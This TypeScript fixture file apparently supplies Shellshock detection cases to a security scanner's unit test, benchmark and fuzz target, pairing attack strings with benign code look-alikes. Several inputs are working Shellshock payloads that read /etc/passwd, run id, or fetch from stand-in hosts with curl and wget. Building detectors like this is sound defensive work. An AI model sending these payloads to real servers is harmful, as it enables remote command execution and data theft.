import type { ValueKind } from '../../inspectable.js';

/** A detection case: `expect` is the rule that must fire, or null when nothing may fire. */
export interface ShellshockCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Defaults to `query.x`. */
  readonly location?: string;
  readonly expect: string | null;
}

const RULE = 'shellshock/function-definition';

/** Shellshock cases shared by the unit test, the benchmark and the fuzz target. */
export const shellshockCases: readonly ShellshockCase[] = [
  { input: '() { :; }; /bin/bash -c "cat /etc/passwd"', kind: 'header-value', expect: RULE },
  { input: '() { :;}; echo; /usr/bin/id', kind: 'header-value', expect: RULE },
  { input: '() {', kind: 'header-value', expect: RULE },
  { input: '() { _; } >_[$($())] { id; }', kind: 'header-value', expect: RULE },
  { input: '() { (a)=>\\', kind: 'header-value', expect: RULE },
  { input: '  ()  {  :;  };  ping -c 3 10.0.0.1', kind: 'cookie-value', expect: RULE },
  { input: '%28%29%20%7B', kind: 'query-value', expect: RULE },
  { input: '%28%29%20%7B%20%3A%3B%20%7D%3B%20curl%20evil.sh', kind: 'query-value', expect: RULE },
  { input: '() { :; }', kind: 'body-name', expect: RULE },
  { input: '( ) { :; }; wget http://x/s', kind: 'header-value', expect: RULE },
  { input: 'x=() { :; }; id', kind: 'query-value', expect: RULE },
  { input: 'Mozilla/5.0 () { :; }; /bin/sleep 5', kind: 'header-value', expect: RULE },
  { input: '() { return 1; }', kind: 'body-value', expect: RULE },
  // Code and prose with parentheses and braces.
  { input: 'function () { return 1; }', kind: 'body-value', expect: null },
  { input: 'const f = () => { go(); };', kind: 'body-value', expect: null },
  { input: 'if (a) { b(); }', kind: 'body-value', expect: null },
  { input: 'foo() {bar}', kind: 'query-value', expect: null },
  { input: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', kind: 'header-value', expect: null },
  { input: 'smile :-() {not a function}', kind: 'query-value', expect: null },
  { input: '(1+2)*{3}', kind: 'query-value', expect: null },
  { input: '()', kind: 'query-value', expect: null },
  { input: '{}', kind: 'query-value', expect: null },
  { input: 'void main() { printf("hi"); }', kind: 'body-text', expect: null },
];
